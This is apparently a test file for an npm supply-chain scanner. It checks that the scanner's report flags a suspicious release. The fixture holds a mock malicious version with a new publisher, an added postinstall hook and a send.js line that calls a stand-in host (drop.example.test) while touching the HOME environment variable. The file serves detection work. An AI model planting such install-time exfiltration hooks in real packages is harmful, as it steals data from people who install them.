// What a person reads of a release that does not pass, by a scan of a whole project.
import { beforeAll, describe, expect, test } from 'vitest'
import { emptyContents } from '../../src/domain/comparison.ts'
import { noLines, toManifest } from '../../src/domain/manifest.ts'
import type { JudgedPackage, Report } from '../../src/domain/report.ts'
import { stageProject } from '../../src/replay/stage.ts'
import { shownFor } from '../../src/scan/brings.ts'
import { candidate, history, published } from '../facts/support.ts'
import { runInProcess } from '../support/cli-in-process.ts'
import { startRegistry } from '../support/registry.ts'
import { scenarioOf } from '../support/scenario.ts'

const scenario = scenarioOf(`
about: one release that brings much, one that is only young, one that passes
now: 2026-06-15T12:00:00Z
registry:
  packages:
    loud:
      versions:
        1.0.0:
          published: 2025-02-01T10:00:00Z
          publisher: { name: ada, email: ada@example.test }
          files:
            package.json: { scripts: { install: node build.js, test: node test.js }, dependencies: { calm: ^1.0.0 } }
            build.js: "require('node:fs').readFileSync('x')"
            index.js: "require('calm')(process.env.HOME)"
        1.0.1:
          published: 2025-03-01T10:00:00Z
          extends: 1.0.0
          publisher: { name: ada, email: ada@example.test }
        1.1.0:
          published: 2026-05-01T10:00:00Z
          publisher: { name: mallory, email: mallory@example.test }
          files:
            package.json:
              scripts: { install: node build.js now, postinstall: node send.js, test: node other.js }
              dependencies: { calm: ^1.0.1, tall: ^1.0.0 }
            build.js: "require('node:fs').readFileSync('x')"
            send.js: "require('node:https').get('https://drop.example.test/x'); process.env.HOME"
            index.js: "require('calm'); require('tall')"
    young:
      versions:
        2.0.0:
          published: 2025-02-01T10:00:00Z
          files: { package.json: { dependencies: { calm: ^1.0.0 } }, index.js: "require('calm')" }
        2.0.1:
          published: 2026-06-15T06:00:00Z
          files:
            package.json: { dependencies: { calm: ^1.0.0, tall: ^1.0.0 } }
            index.js: "require('calm'); require('tall')"
    calm: { versions: { 1.0.1: { published: 2024-02-01T10:00:00Z, files: { index.js: "1" } } } }
    tall: { versions: { 1.0.0: { published: 2024-02-01T10:00:00Z, files: { index.js: "1" } } } }
project: { package.json: { name: app, version: 1.0.0, dependencies: { loud: ^1.0.0, young: ^2.0.0 } } }
lock:
  tree:
    node_modules/calm: calm@1.0.1
    node_modules/loud: loud@1.1.0
    node_modules/tall: tall@1.0.0
    node_modules/young: young@2.0.1
runs: [{ args: [scan], expect: { exitCode: 1 } }]
`)

const found = new Map<string, JudgedPackage>()
beforeAll(async () => {
  await using registry = await startRegistry(scenario.registry)
  await using stage = await stageProject(scenario, registry.origin)
  const place = { cwd: stage.project, home: stage.home, registry: registry.origin, trust: registry.trust, env: {} }
  const run = await runInProcess(['scan', '--all', '--format', 'json', '--now', '2026-06-15T12:00:00Z'], place)
  const report: Report = JSON.parse(run.stdout)
  for (const one of report.packages) found.set(one.name, one)
  registry.assertNoUnmatched()
})

describe('a release whose contents were compared', () => {
  test('brings scripts that run on install, with what they were', () => {
    expect(found.get('loud')?.brings.scripts).toEqual([
      { name: 'install', status: 'changed', before: 'node build.js', after: 'node build.js now' },
      { name: 'postinstall', status: 'added', before: '', after: 'node send.js' },
    ])
  })

  test('brings dependencies, capabilities, hosts and people', () => {
    expect(found.get('loud')?.baseline).toEqual({ status: 'history', version: '1.0.1' })
    expect(found.get('loud')?.brings).toMatchObject({
      compared: 'contents',
      dependencies: [
        { name: 'calm', status: 'changed', before: '^1.0.0', after: '^1.0.1' },
        { name: 'tall', status: 'added', before: '', after: '^1.0.0' },
      ],
      hosts: [{ host: 'drop.example.test', status: 'added', file: 'send.js', line: 1 }],
      publisher: { before: 'ada', after: 'mallory' },
      cut: 0,
    })
    const capabilities = found.get('loud')?.brings.capabilities ?? []
    expect(capabilities).toContainEqual({ name: 'network-client', status: 'added', file: 'send.js', line: 1 })
    expect(capabilities).toContainEqual({ name: 'fs-read', status: 'kept', file: 'build.js', line: 1 })
    // Reached in a stronger way than before; still nothing that its code could not do.
    expect(capabilities).toContainEqual({ name: 'env', status: 'kept', file: 'send.js', line: 1 })
  })

  test('stands among the releases around it', () => {
    expect(
      found.get('loud')?.timeline.map((one) => [one.version, one.publisher, one.isBaseline, one.isJudged]),
    ).toEqual([
      ['1.0.0', 'ada', false, false],
      ['1.0.1', 'ada', true, false],
      ['1.1.0', 'mallory', false, true],
    ])
  })
})

test('a release that only waits is compared by what the registry shows', () => {
  expect(found.get('young')).toMatchObject({
    verdict: 'waiting',
    brings: {
      compared: 'none',
      scripts: [],
      dependencies: [{ name: 'tall', status: 'added', before: '', after: '^1.0.0' }],
      capabilities: [],
      hosts: [],
    },
  })
})

test('what passed is told nothing of', () => {
  expect(found.get('calm')).toMatchObject({ verdict: 'passed', timeline: [], brings: { dependencies: [], cut: 0 } })
})

test('lists and texts are bounded, and what was left out is counted', () => {
  const dependencies = Object.fromEntries(Array.from({ length: 60 }, (_one, index) => [`d${index}`, '9'.repeat(5000)]))
  const of = history(
    published('1.0.0', '2026-01-01T00:00:00Z'),
    published('1.0.1', '2026-02-01T00:00:00Z', {
      manifest: toManifest({ name: 'tiny', version: '1.0.1', dependencies }, noLines),
    }),
  )
  const { brings } = shownFor('waiting', candidate(emptyContents, { history: of }), 'none', '1.0.0')
  expect([brings.dependencies.length, brings.cut]).toEqual([50, 10])
  expect(brings.dependencies[0]?.after).toHaveLength(1000)
})

test('nothing looks new against a manifest that nobody has read', () => {
  const unread = published('1.0.0', '2026-01-01T00:00:00Z', { manifest: emptyContents.manifest })
  const manifest = toManifest({ name: 'tiny', version: '1.0.1', dependencies: { calm: '1' } }, noLines)
  const of = history(unread, published('1.0.1', '2026-02-01T00:00:00Z', { manifest }))
  expect(shownFor('waiting', candidate(emptyContents, { history: of }), 'none', '1.0.0').brings.dependencies).toEqual(
    [],
  )
})
